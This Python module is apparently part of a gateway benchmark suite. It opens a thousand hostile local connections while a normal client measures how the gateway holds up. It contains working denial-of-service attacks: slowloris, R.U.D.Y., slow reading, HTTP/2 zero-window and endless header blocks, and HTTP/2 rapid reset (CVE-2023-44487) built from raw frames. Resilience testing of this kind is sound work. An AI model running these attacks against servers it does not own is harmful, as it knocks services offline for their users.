"""A thousand hostile connections, and a normal client beside them."""

import asyncio
import random
import sys
from asyncio.subprocess import PIPE
from collections.abc import AsyncIterator, Awaitable, Callable, Mapping
from contextlib import asynccontextmanager, suppress
from dataclasses import dataclass

from bench.endurance_parts.clients import Http1Client, Http2Client, Tally
from bench.gateway_parts.processes import Running

CONNECTIONS = 1000
PROBE_PAUSE = 0.1  # seconds between two requests of the normal client
DRIP = 1.0  # seconds between two bytes of a slow one
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(3) + b"\x04" + bytes(5)
ZERO_WINDOW = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x06\x04" + bytes(5) + b"\x00\x04" + bytes(4)
RESETS = 50  # a second and connection

Connection = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]


@dataclass(frozen=True)
class Attacked:
    """How a normal client fared."""

    name: str
    tally: Tally
    cpu: float  # share of a core that the gateway used
    open_at_the_end: int  # hostile connections that were still there


async def attack(name: str, server: Running, port: int, seconds: float) -> Attacked:
    """Let a thousand connections misbehave for so long, and ask as a normal client meanwhile."""
    loop = asyncio.get_running_loop()
    async with _crowd(name, port) as crowd:
        tally, used, began = Tally(), server.cpu_seconds(), loop.time()
        while loop.time() - began < seconds:
            for kind in (Http1Client, Http2Client):
                await _probe(kind(port, {}), tally)
            await asyncio.sleep(PROBE_PAUSE)
        cpu = (server.cpu_seconds() - used) / (loop.time() - began)
        left, _ = await crowd.communicate(b"")
    return Attacked(name, tally, cpu, int(left))


@asynccontextmanager
async def _crowd(name: str, port: int) -> AsyncIterator[asyncio.subprocess.Process]:
    """The hostile ones, in a process of their own: the normal client shall not wait for them on its side."""
    command = [sys.executable, "-m", "bench.endurance_parts.attacks", name, str(port)]
    crowd = await asyncio.create_subprocess_exec(*command, stdin=PIPE, stdout=PIPE)
    try:
        yield crowd
    finally:
        if crowd.returncode is None:
            crowd.kill()
            await crowd.wait()


async def misbehave(name: str, port: int) -> None:
    """Be the crowd until the standard input ends, and print how many connections are left then."""
    tasks = [asyncio.create_task(_misbehave(ATTACKS[name], port, number)) for number in range(CONNECTIONS)]
    await asyncio.to_thread(sys.stdin.read)
    print(sum(not task.done() for task in tasks))


async def _probe(client: Http1Client | Http2Client, tally: Tally) -> None:
    """A new connection and a request: both count."""
    began = asyncio.get_running_loop().time()
    try:
        await client.connect()
    except OSError:
        tally.lost["no connection"] += 1
        return
    await tally.count(client, "GET", "/api/prices")
    if tally.times:
        tally.times[-1] = asyncio.get_running_loop().time() - began
    await client.close()


async def _misbehave(hostile: Connection, port: int, number: int) -> None:
    """One hostile connection, until the gateway ends it."""
    await asyncio.sleep(number / CONNECTIONS)
    with suppress(OSError):
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        try:
            await hostile(reader, writer)
        finally:
            writer.close()


async def _drip(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, begin: bytes, more: bytes) -> None:
    writer.write(begin)
    while not writer.is_closing():
        try:
            async with asyncio.timeout(DRIP * random.uniform(0.5, 1.5)):
                if not await reader.read(65536):
                    return
        except TimeoutError:
            writer.write(more)


async def slow_header(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """HTTP/1.1: a header that does not end (slowloris)."""
    await _drip(reader, writer, b"GET /api/prices HTTP/1.1\r\nhost: a\r\n", b"x-a: b\r\n")


async def slow_body(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """HTTP/1.1: a body that comes byte by byte (R.U.D.Y.)."""
    head = b"POST /api/auth/login HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\ncontent-length: 9000\r\n\r\n"
    await _drip(reader, writer, head, b"x")


async def slow_read(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """HTTP/1.1: many answers asked for, of which next to nothing is read."""
    writer.write(b"GET /api/prices HTTP/1.1\r\nhost: a\r\n\r\n" * 100)
    read = b"begun"
    while read:
        read = await reader.read(32)
        await asyncio.sleep(DRIP)


async def slow_header_http2(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """HTTP/2: a header block without an end."""
    block = b"\x00\x00\x01\x01\x00\x00\x00\x00\x01\x82"
    await _drip(reader, writer, PREFACE + block, b"")


async def zero_window(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """HTTP/2: answers asked for with a window of nothing."""
    frames = [_headers(stream) for stream in range(1, 40, 2)]
    await _drip(reader, writer, ZERO_WINDOW + b"".join(frames), b"")


async def rapid_reset(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """HTTP/2: requests that are reset at once (CVE-2023-44487)."""
    ended = asyncio.create_task(reader.read())
    writer.write(PREFACE)
    stream = 1
    while not ended.done() and not writer.is_closing():
        frames = []
        for _ in range(RESETS):
            frames.append(_headers(stream) + b"\x00\x00\x04\x03\x00" + stream.to_bytes(4, "big") + b"\x00\x00\x00\x08")
            stream += 2
        writer.write(b"".join(frames))
        await asyncio.sleep(1.0)
    await ended


def _headers(stream: int) -> bytes:
    block = bytes([0x82, 0x86, 0x84, 0x41, 0x01]) + b"a"  # GET, http, "/", :authority a
    return len(block).to_bytes(3, "big") + b"\x01\x05" + stream.to_bytes(4, "big") + block


ATTACKS: Mapping[str, Connection] = {
    "slow headers, HTTP/1.1": slow_header,
    "slow bodies, HTTP/1.1": slow_body,
    "slow reading, HTTP/1.1": slow_read,
    "header blocks without end, HTTP/2": slow_header_http2,
    "no window, HTTP/2": zero_window,
    "rapid reset, HTTP/2": rapid_reset,
}

if __name__ == "__main__":
    asyncio.run(misbehave(sys.argv[1], int(sys.argv[2])))
